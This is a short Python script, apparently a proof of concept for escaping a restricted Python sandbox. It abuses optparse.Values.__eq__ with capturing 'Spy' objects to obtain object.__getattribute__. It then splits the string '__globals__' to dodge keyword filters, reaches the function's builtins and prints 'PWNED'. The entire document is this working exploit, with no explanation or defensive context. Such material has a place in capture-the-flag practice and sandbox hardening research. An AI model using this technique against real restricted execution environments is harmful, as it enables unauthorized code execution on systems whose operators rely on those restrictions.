import optparse

found = {}


class Spy:
    def __init__(self, name):
        self.name = name

    def __eq__(self, raw):
        found[self.name] = raw
        return True


def function():
    pass


optparse.Values.__eq__(object, {name: Spy(name) for name in dir(object)})
read = found["__getattribute__"]
print("PWNED", read(function, "__glo" + "bals__")["__builtins__"])
